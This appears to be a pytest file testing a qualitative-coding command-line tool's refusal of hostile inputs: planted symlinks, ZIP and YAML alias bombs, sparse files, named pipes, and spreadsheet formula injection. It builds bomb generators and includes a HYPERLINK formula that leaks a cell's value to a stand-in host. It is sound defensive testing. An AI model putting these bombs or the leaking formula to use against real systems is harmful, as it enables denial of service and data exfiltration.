"""Files made to hurt: links planted where qcode writes, ZIP and YAML bombs, huge and sparse files,
named pipes and devices where a file should be, and spreadsheet formulas in what qcode exports.
Each is refused on one line naming the file, at once, and a run goes on with the other files."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import struct
import time
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest
import yaml
from fakes import SMALL_CODEBOOK, Answer, code_store, qcode, scripted_coder, write

import pipeline.ingest
from pipeline.codebook import _keys_twice
from pipeline.coders.prompt import _template_text
from pipeline.errors import FileError
from pipeline.files import MAX_RATIO, csv_writer, formula_safe, load_yaml, read_member, unpacked, written_aside

MB = 2**20
GOOD = "Interviewer: What did the district give you?\nMs. Chen: The district gave us a grant to buy new materials.\n"


@pytest.fixture(scope="module", autouse=True)
def scripted() -> None:
    """A coder that codes each chunk's first line, with no model to load."""
    scripted_coder("hostile", proposes="first-code", confidence=0.9)


@contextmanager
def deadline(seconds: int) -> Iterator[None]:
    """Fail, rather than hang, when what is tested waits (on a named pipe) or reads without end."""

    def expire(signum: int, frame: Any) -> None:
        raise TimeoutError(f"still busy after {seconds} s")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def sparse(path: Path, size: int) -> Path:
    """A file of `size` bytes that takes no room on disk (and no time to make)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "wb") as handle:
        handle.truncate(size)
    return path


def fifo(path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    os.mkfifo(path)
    return path


def word(path: Path, extra: dict[str, bytes] | None = None) -> Path:
    """A real Word document saying GOOD, with `extra` members added to its ZIP."""
    document = docx.Document()
    for line in GOOD.splitlines():
        document.add_paragraph(line)
    path.parent.mkdir(parents=True, exist_ok=True)
    document.save(str(path))
    if extra:
        with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as archive:
            for name, data in extra.items():
                archive.writestr(name, data)
    return path


def bomb_yaml(levels: int, width: int = 9) -> str:
    """A "billion laughs": `levels` lists, each `width` aliases of the one before."""
    lines = [f"l0: &l0 [{', '.join(['lol'] * width)}]"]
    for i in range(1, levels):
        lines.append(f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * width)}]")
    return "\n".join(lines) + "\n"


def one_line(stderr: str) -> str:
    lines = [line for line in stderr.splitlines() if line.strip()]
    assert len(lines) == 1, stderr
    return lines[0]


# ---------------------------------------------------------------- 6. links planted where qcode writes


@pytest.fixture(scope="module")
def coded(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """A store coded from two transcripts (one named like a formula, with case metadata that is one),
    its codebook, and a REFI-QDA project exported from it."""
    folder = tmp_path_factory.mktemp("coded")
    codebook = write(folder / "small.yaml", SMALL_CODEBOOK)
    write(folder / "in" / "plain.txt", GOOD)
    write(folder / "in" / "-2+3.txt", GOOD.replace("Chen", "Diaz"))
    hyperlink = '=HYPERLINK("http://example.invalid/?leak="&B2,"click")'
    with open(folder / "in" / "manifest.csv", "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["file", "school", "score"])
        writer.writerow(["plain.txt", hyperlink, "-3"])
        writer.writerow(["-2+3.txt", "Oak", "-0.5"])
    db = folder / "coded.db"
    summary = code_store(folder / "in", codebook, db, coder="hostile")
    assert summary.transcripts == 2 and summary.suggestions >= 2 and not summary.failed
    project = folder / "project.qdpx"
    assert qcode("export", "--format", "qdpx", "--out", project, "--db", db).exit_code == 0
    qdc = folder / "book.qdc"
    assert qcode("codebook", "export", codebook, "--format", "qdc", "--out", qdc).exit_code == 0
    return {"db": db, "codebook": codebook, "project": project, "qdc": qdc}


# each command that writes a file, given the file to write
WRITERS: dict[str, Callable[[dict[str, Path], Path], list[object]]] = {
    "export csv": lambda c, out: ["export", "--format", "csv", "--out", out, "--db", c["db"]],
    "export qdpx": lambda c, out: ["export", "--format", "qdpx", "--out", out, "--db", c["db"]],
    "report": lambda c, out: ["report", "--out", out, "--db", c["db"]],
    "matrix": lambda c, out: ["matrix", "--cols", "source_type", "--format", "csv", "--out", out, "--db", c["db"]],
    "codebook export": lambda c, out: ["codebook", "export", c["codebook"], "--format", "qdc", "--out", out],
    "codebook import": lambda c, out: ["codebook", "import", c["qdc"], "--out", out],
    "import --codebook-out": lambda c, out: [
        "import",
        c["project"],
        "--codebook-out",
        out,
        "--db",
        out.parent / f"imported-{time.monotonic_ns()}.db",
    ],
}


@pytest.mark.parametrize("command", list(WRITERS))
def test_a_link_where_qcode_writes_is_never_followed(coded: dict[str, Path], tmp_path: Path, command: str) -> None:
    precious = write(tmp_path / "precious.txt", "precious words\n")
    out = tmp_path / "out.file"
    # the old predictable name beside the file, planted as a link to something precious
    (tmp_path / "out.file.partial").symlink_to(precious)

    # a link at the file itself, even to nothing, is refused without --force, and named
    out.symlink_to(tmp_path / "nothing-here")
    code, _, stderr = qcode(*WRITERS[command](coded, out))
    assert code == 1
    assert str(out) in stderr and "symbolic link" in stderr and "--force" in stderr
    assert out.is_symlink() and not (tmp_path / "nothing-here").exists()

    # with --force the link itself is replaced by the file; what it pointed to is left alone
    out.unlink()
    out.symlink_to(precious)
    code, _, stderr = qcode(*WRITERS[command](coded, out), "--force")
    assert code == 0, stderr
    assert not out.is_symlink() and out.is_file() and out.stat().st_size > 0
    assert precious.read_text() == "precious words\n"
    assert (tmp_path / "out.file.partial").is_symlink()  # qcode never wrote through it
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.endswith(".partial")) == ["out.file.partial"]


def test_the_file_being_written_is_new_unpredictable_and_readable_by_the_team(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    names = []
    for _ in range(2):
        with written_aside(out, force=True) as temporary:
            names.append(temporary.name)
            assert temporary.parent == tmp_path and temporary.name.startswith(".out.csv.")
            temporary.write_text("a,b\n")
    assert names[0] != names[1]
    assert out.read_text() == "a,b\n" and out.stat().st_mode & 0o777 == 0o666 & ~_umask()
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


def _umask() -> int:
    mask = os.umask(0o022)
    os.umask(mask)
    return mask


def test_a_file_that_appears_while_qcode_writes_is_not_replaced_unasked(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    with pytest.raises(FileError, match="exists; add --force"), written_aside(out) as temporary:
        temporary.write_text("mine\n")
        out.write_text("someone else's\n")
    assert out.read_text() == "someone else's\n"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


# ---------------------------------------------------------------- 7, 8, 10, 11: a run among hostile files


def test_a_run_among_hostile_files_fails_each_by_name_and_codes_the_good_one(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    write(folder / "good.txt", GOOD)
    word(folder / "bomb.docx", {"word/media/image1.png": bytes(64 * MB)})  # 64 MB of zeros in 64 kB
    write(folder / "laughs.txt", "---\n" + bomb_yaml(6) + "---\n" + GOOD)
    write(folder / "large.txt", "Ms. Chen: a long answer.\n" * (2 * MB // 24))  # 2 MB, over --max-file-mb 1
    for suffix in (".docx", ".pdf", ".qdpx", ".csv"):
        sparse(folder / f"huge{suffix}", 2 * MB)
    fifo(folder / "pipe.txt")
    codebook = write(tmp_path / "small.yaml", SMALL_CODEBOOK)

    with deadline(120):
        answer = qcode(
            "run", folder, "--codebook", codebook, "--db", tmp_path / "t.db", "--coder", "hostile",
            "--max-file-mb", "1", "--json",
        )  # fmt: skip
    assert answer.exit_code == 1
    summary = json.loads(answer.stdout)
    failed = {Path(f["path"]).name: f["error"] for f in summary["failed"]}
    assert set(failed) == {"bomb.docx", "laughs.txt", "large.txt", "huge.docx", "huge.pdf", "huge.qdpx", "huge.csv"}
    assert "word/media/image1.png" in failed["bomb.docx"] and "ZIP bomb" in failed["bomb.docx"]
    assert "aliases" in failed["laughs.txt"] and "line 3" in failed["laughs.txt"]
    for name in ("large.txt", "huge.docx", "huge.pdf", "huge.qdpx", "huge.csv"):
        size = (folder / name).stat().st_size
        assert failed[name] == f"{size:,} bytes, over the limit of 1 MB a file may have (--max-file-mb sets it)"
    notes = {Path(n["path"]).name: n["note"] for n in summary["notes"]}
    assert notes["pipe.txt"] == "not read: not a regular file: a named pipe (FIFO)"
    # the good transcript beside them was coded, and each failure is one line naming its file
    assert summary["transcripts"] == 1 and summary["suggestions"] >= 1
    for name, error in failed.items():
        assert f"failed: {folder / name}: {error}" in " ".join(answer.stderr.split())


def test_files_under_the_default_limit_are_read_and_over_it_refused_unread(tmp_path: Path) -> None:
    codebook = write(tmp_path / "small.yaml", SMALL_CODEBOOK)
    write(tmp_path / "in" / "large.txt", "Ms. Chen: a long answer.\n" * (2 * MB // 24))
    for suffix in (".txt", ".docx", ".pdf", ".vtt"):
        sparse(tmp_path / "in" / f"huge{suffix}", 2 * 2**30 if suffix == ".txt" else 101 * MB)
    began = time.monotonic()
    answer = qcode("run", tmp_path / "in", "--codebook", codebook, "--coder", "hostile", "--dry-run", "--json")
    assert time.monotonic() - began < 20  # the 2 GB file is looked at, not read
    assert answer.exit_code == 0  # a dry run reports failed files; it does not fail
    estimate = json.loads(answer.stdout)
    assert estimate["transcripts"] == 1  # large.txt, 2 MB
    failed = {Path(f["path"]).name: f["error"] for f in estimate["failed"]}
    assert failed == {
        name: f"{(tmp_path / 'in' / name).stat().st_size:,} bytes, over the limit of 100 MB a file may have "
        "(--max-file-mb sets it)"
        for name in ("huge.txt", "huge.docx", "huge.pdf", "huge.vtt")
    }


def test_max_file_mb_in_qcode_toml_limits_a_run(tmp_path: Path) -> None:
    codebook = write(tmp_path / "small.yaml", SMALL_CODEBOOK)
    write(tmp_path / "in" / "good.txt", GOOD)
    large = write(tmp_path / "in" / "large.txt", "Ms. Chen: a long answer.\n" * (2 * MB // 24))
    (tmp_path / "qcode.toml").write_text(f'[run]\ncodebook = "{codebook}"\ncoder = "hostile"\nmax_file_mb = 1\n')
    answer = qcode("run", tmp_path / "in", "--db", tmp_path / "t.db", "--json")
    assert answer.exit_code == 1
    summary = json.loads(answer.stdout)
    assert {Path(f["path"]).name: f["error"] for f in summary["failed"]} == {
        "large.txt": f"{large.stat().st_size:,} bytes, over the limit of 1 MB a file may have (--max-file-mb sets it)"
    }
    assert summary["transcripts"] == 1
    # the flag still says more than qcode.toml
    answer = qcode("run", tmp_path / "in", "--db", tmp_path / "t.db", "--max-file-mb", "3", "--json")
    assert answer.exit_code == 0, answer.stderr
    assert json.loads(answer.stdout)["transcripts"] == 2
    # and a limit that cannot be is named as a setting of qcode.toml
    (tmp_path / "qcode.toml").write_text(f'[run]\ncodebook = "{codebook}"\nmax_file_mb = 0\n')
    code, _, stderr = qcode("run", tmp_path / "in", "--dry-run")
    assert code == 1 and "qcode.toml" in stderr and "max_file_mb" in stderr


def test_the_limit_travels_with_the_run_request(tmp_path: Path) -> None:
    """A run held elsewhere (a Prefect deployment) gets the request, not the command line's limit."""
    codebook = write(tmp_path / "small.yaml", SMALL_CODEBOOK)
    write(tmp_path / "in" / "good.txt", GOOD)
    write(tmp_path / "in" / "large.txt", "Ms. Chen: a long answer.\n" * (2 * MB // 24))
    summary = code_store(tmp_path / "in", codebook, tmp_path / "t.db", coder="hostile", max_file_mb=1)
    assert [Path(f.path).name for f in summary.failed] == ["large.txt"]
    assert summary.transcripts == 1


def test_max_file_mb_is_a_whole_number_of_one_or_more(tmp_path: Path) -> None:
    codebook = write(tmp_path / "small.yaml", SMALL_CODEBOOK)
    answer = qcode("run", tmp_path, "--codebook", codebook, "--max-file-mb", "0", "--dry-run", "--json")
    assert answer.exit_code == 2
    assert json.loads(answer.stdout)["error"].startswith("Invalid value for '--max-file-mb'")


def test_running_out_of_memory_on_one_file_fails_that_file_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    reader = pipeline.ingest.read_plain_text

    def exhausted(path: Path, *args: Any) -> Any:
        if path.name == "greedy.txt":
            raise MemoryError()
        return reader(path, *args)

    monkeypatch.setattr(pipeline.ingest, "read_plain_text", exhausted)
    write(tmp_path / "in" / "greedy.txt", GOOD)
    write(tmp_path / "in" / "good.txt", GOOD.replace("Chen", "Diaz"))
    codebook = write(tmp_path / "small.yaml", SMALL_CODEBOOK)
    summary = code_store(tmp_path / "in", codebook, tmp_path / "t.db", coder="hostile")
    assert [(Path(f.path).name, f.error) for f in summary.failed] == [
        ("greedy.txt", f"ran out of memory reading it ({len(GOOD):,} bytes on disk)")
    ]
    assert summary.transcripts == 1 and summary.suggestions >= 1


# ---------------------------------------------------------------- 7. ZIP bombs


def _member_sizes_patched(data: bytes, size: int) -> bytes:
    """The ZIP with its one member's unpacked size, in both headers, said to be `size`."""
    local = data.index(b"PK\x03\x04")
    central = data.index(b"PK\x01\x02")
    data = data[: local + 22] + struct.pack("<I", size) + data[local + 26 :]
    return data[: central + 24] + struct.pack("<I", size) + data[central + 28 :]


def test_a_zip_member_larger_than_its_header_says_is_refused(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", bytes(8 * MB))
    lying = _member_sizes_patched(buffer.getvalue(), 50_000)  # small enough to pass every declared check
    with zipfile.ZipFile(io.BytesIO(lying)) as archive:
        assert archive.infolist()[0].file_size == 50_000
        with pytest.raises(FileError) as error:
            unpacked(archive, tmp_path / "lying.docx")
    assert str(error.value).startswith(f"{tmp_path / 'lying.docx'}: 'word/document.xml' inside cannot be unpacked")


def test_zip_members_are_held_to_a_total_and_a_packing_ratio(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for i in range(4):
            archive.writestr(f"part{i}.xml", os.urandom(300_000))  # random bytes do not pack at all
        archive.writestr("zeros.bin", bytes(2 * MB), compress_type=zipfile.ZIP_BZIP2)
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
        with pytest.raises(FileError, match="packed with ZIP method 12"):
            unpacked(archive, "a.docx")
        with pytest.raises(FileError, match="packed with ZIP method 12"):
            read_member(archive, archive.getinfo("zeros.bin"), "a.qdpx", limit=10 * MB)
        archive.filelist = [i for i in archive.filelist if i.filename != "zeros.bin"]
        assert unpacked(archive, "a.docx") == 1_200_000
        with pytest.raises(FileError, match="unpacks to more than 1,000,000 bytes"):
            unpacked(archive, "a.docx", limit=1_000_000)
        assert len(read_member(archive, archive.getinfo("part0.xml"), "a.qdpx", limit=300_000)) == 300_000
        with pytest.raises(FileError, match="'part0.xml' inside unpacks to 300,000 bytes; qcode unpacks at most"):
            read_member(archive, archive.getinfo("part0.xml"), "a.qdpx", limit=299_999)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("small.xml", bytes(MB))  # packs a thousand times, but a megabyte harms nobody
        archive.writestr("big.xml", bytes(3 * MB))
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
        with pytest.raises(FileError, match=f"'big.xml' inside unpacks to 3,145,728 bytes, .* at most {MAX_RATIO}"):
            unpacked(archive, "a.docx")


def test_a_good_docx_beside_a_picture_is_read(tmp_path: Path) -> None:
    path = word(tmp_path / "fine.docx", {"word/media/photo.jpg": os.urandom(2 * MB)})
    [transcript] = pipeline.ingest.read_source(pipeline.ingest.Source(path, tmp_path))
    assert "gave us a grant" in transcript.text


def test_a_zip_bomb_spreadsheet_is_refused_before_openpyxl_unpacks_it(tmp_path: Path) -> None:
    path = tmp_path / "codes.xlsx"
    workbook = openpyxl.Workbook()
    workbook.active.append(["code", "definition"])
    workbook.active.append(["funding", "Money for the school"])
    workbook.save(path)
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/image1.png", bytes(64 * MB))  # 64 MB of zeros in 64 kB
    with deadline(20):
        code, stdout, stderr = qcode("codebook", "import", path, "--out", tmp_path / "book.yaml")
    assert code == 1 and not (tmp_path / "book.yaml").exists()
    line = one_line(stderr)
    assert line.startswith(f"error: {path}: 'xl/media/image1.png' inside unpacks to 67,108,864 bytes")
    assert "ZIP bomb" in line
    # a spreadsheet that is no ZIP at all is refused on one line too
    broken = write(tmp_path / "broken.xlsx", "code,definition\nfunding,money\n")
    code, _, stderr = qcode("codebook", "import", broken)
    assert code == 1
    assert one_line(stderr) == f"error: {broken}: cannot read as an Excel workbook: the file is not a ZIP archive"


# ---------------------------------------------------------------- 8, 9. YAML alias bombs


def test_front_matter_with_aliases_is_refused_on_one_line(tmp_path: Path) -> None:
    path = write(tmp_path / "laughs.md", "---\nrole: teacher\n" + bomb_yaml(8) + "---\n" + GOOD)
    with pytest.raises(pipeline.ingest.IngestError) as error:
        pipeline.ingest.read_source(pipeline.ingest.Source(path, tmp_path))
    assert str(error.value) == (
        f"{path}: front matter is not valid YAML at line 4: aliases (*name) are not allowed here: write the value out"
    )


def test_a_codebook_of_aliases_is_refused_at_once(tmp_path: Path) -> None:
    path = write(tmp_path / "laughs.yaml", bomb_yaml(9) + "name: x\n")
    assert len(path.read_bytes()) < 500
    with deadline(10):
        code, _, stderr = qcode("codebook", "validate", path)
    assert code == 1
    assert (
        one_line(stderr)
        == f"error: {path}:2: not valid YAML: aliases (*name) are not allowed here: write the value out"
    )


def test_the_duplicate_key_walk_visits_each_node_once() -> None:
    # PyYAML's own composer keeps aliases: ten levels of ten are 10^10 paths but 110 nodes
    root = yaml.compose(bomb_yaml(10, 10) + "top: 1\ntop: 2\n")
    with deadline(10):
        assert _keys_twice(root) == [("top", 12)]


def test_an_eval_suite_of_aliases_is_refused(tmp_path: Path) -> None:
    path = write(tmp_path / "suite.yaml", bomb_yaml(9))
    with deadline(10):
        code, _, stderr = qcode("eval", path)
    assert code == 1
    assert (
        one_line(stderr)
        == f"error: {path}: not valid YAML (line 2): aliases (*name) are not allowed here: write the value out"
    )


def test_yaml_nested_without_end_is_refused() -> None:
    with pytest.raises(yaml.YAMLError, match="nested more than 64 levels deep"):
        load_yaml("[" * 10_000 + "]" * 10_000)
    assert load_yaml("a: &x 1\nb: [1, {c: 2}]\n") == {"a": 1, "b": [1, {"c": 2}]}  # an anchor alone is harmless


# ---------------------------------------------------------------- 11. named pipes and devices


@pytest.mark.parametrize("kind", ["fifo", "device"])
def test_a_codebook_that_is_no_file_is_refused_unopened(tmp_path: Path, kind: str) -> None:
    path = fifo(tmp_path / "book.yaml") if kind == "fifo" else Path("/dev/zero")
    what = "a named pipe (FIFO)" if kind == "fifo" else "a character device"
    with deadline(10):
        code, _, stderr = qcode("codebook", "validate", path)
    assert code == 1
    assert one_line(stderr) == f"error: {path}: not a regular file: {what}; qcode reads only files"


def test_a_transcript_or_manifest_that_is_no_file_is_refused_by_name(tmp_path: Path) -> None:
    codebook = write(tmp_path / "small.yaml", SMALL_CODEBOOK)
    pipe = fifo(tmp_path / "pipe.txt")
    write(tmp_path / "cases" / "a.txt", GOOD)
    fifo(tmp_path / "cases" / "manifest.csv")
    with deadline(20):
        answer = qcode(
            "run", pipe, "/dev/zero", tmp_path / "cases", "--codebook", codebook, "--coder", "hostile",
            "--dry-run", "--json",
        )  # fmt: skip
    failed = {f["path"]: f["error"] for f in json.loads(answer.stdout)["failed"]}
    manifest = tmp_path / "cases" / "manifest.csv"
    assert failed == {
        str(pipe): "not a regular file: a named pipe (FIFO); qcode reads only files",
        "/dev/zero": "not a regular file: a character device; qcode reads only files",
        # the case metadata of a.txt cannot be read: a.txt is not coded without it
        str(tmp_path / "cases" / "a.txt"): f"its manifest {manifest} cannot be read: not a regular file: "
        "a named pipe (FIFO); qcode reads only files",
    }


def test_gold_codes_that_are_no_file_are_refused(tmp_path: Path) -> None:
    write(tmp_path / "small.yaml", SMALL_CODEBOOK)
    write(tmp_path / "gold" / "a.txt", GOOD)
    codes = fifo(tmp_path / "codes.csv")
    suite = write(
        tmp_path / "suite.yaml",
        "gold:\n  transcripts: gold\n  codes: codes.csv\ncodebook: small.yaml\n"
        "configurations:\n  - name: scripted\n    coder: hostile\n",
    )
    with deadline(20):
        code, _, stderr = qcode("eval", suite)
    assert code == 1
    assert f"{codes}: not a regular file: a named pipe (FIFO)" in one_line(stderr)


@pytest.mark.parametrize("command", ["eval", "train"])
def test_eval_and_train_hold_gold_transcripts_to_max_file_mb(tmp_path: Path, command: str) -> None:
    codebook = write(tmp_path / "small.yaml", SMALL_CODEBOOK)
    big = write(tmp_path / "gold" / "a.txt", "Ms. Chen: a long answer.\n" * (2 * MB // 24))
    codes = write(tmp_path / "codes.csv", "file,coder,code,quote\na.txt,ana,funding,a long answer\n")
    suite = write(
        tmp_path / "suite.yaml",
        "gold:\n  transcripts: gold\n  codes: codes.csv\ncodebook: small.yaml\n"
        "configurations:\n  - name: scripted\n    coder: hostile\n",
    )
    given: list[object] = (
        ["eval", suite]
        if command == "eval"
        else [
            "train",
            "--codebook",
            codebook,
            "--gold",
            codes,
            "--transcripts",
            tmp_path / "gold",
            "--db",
            tmp_path / "t.db",
        ]
    )
    code, _, stderr = qcode(*given, "--max-file-mb", "1")
    assert code == 1
    assert f"{big}: {big.stat().st_size:,} bytes, over the limit of 1 MB" in one_line(stderr)


def test_a_prompt_template_that_is_no_file_is_refused_unopened(tmp_path: Path) -> None:
    folder = tmp_path / "prompt"
    write(folder / "system.jinja", "Code with {{ codes | length }} codes.\r\n")
    write(folder / "user.jinja", "\ufeffThe passage:\r\n{{ chunk.text }}\rEnd.\n")
    write(folder / "units.jinja", "{% for unit in units %}{{ unit.chunk.text }}\r\n{% endfor %}")
    # the text hashed into the prompt version is the text Path.read_text gave
    for name in ("user.jinja", "units.jinja"):
        assert _template_text(folder / name) == (folder / name).read_text(encoding="utf-8")
    (folder / "units.jinja").unlink()
    fifo(folder / "units.jinja")
    with deadline(10), pytest.raises(FileError, match="not a regular file: a named pipe"):
        _template_text(folder / "units.jinja")


# ---------------------------------------------------------------- 12. formulas in CSV exports


def test_the_csv_export_writes_no_formula_and_keeps_numbers(coded: dict[str, Path], tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    answer: Answer = qcode("export", "--format", "csv", "--out", out, "--db", coded["db"])
    assert answer.exit_code == 0, answer.stderr
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    by_file = {row["source_name"]: row for row in rows}
    assert set(by_file) == {"plain.txt", "'-2+3.txt"}
    assert by_file["plain.txt"]["case_school"] == '\'=HYPERLINK("http://example.invalid/?leak="&B2,"click")'
    # text is text, even when it reads as a number; the numbers qcode computes stay numbers
    assert by_file["plain.txt"]["case_score"] == "'-3" and by_file["'-2+3.txt"]["case_score"] == "'-0.5"
    assert all(float(row["confidence"]) == 0.9 for row in rows)
    for row in rows:
        for value in row.values():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), value


def test_every_text_cell_of_a_csv_is_neutralised_and_every_number_kept() -> None:
    buffer = io.StringIO(newline="")
    csv_writer(buffer).writerow(["=1+2", "+A1", "-A1", "@SUM(A1)", "\tx", "\rx", "-3", "1e-4", "a=b", -0.5, 7, None])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [
        "'=1+2", "'+A1", "'-A1", "'@SUM(A1)", "'\tx", "'\rx", "'-3", "1e-4", "a=b", "-0.5", "7", "",
    ]  # fmt: skip
    assert formula_safe("'=1") == "'=1" and formula_safe(-1) == -1  # quoting twice changes nothing
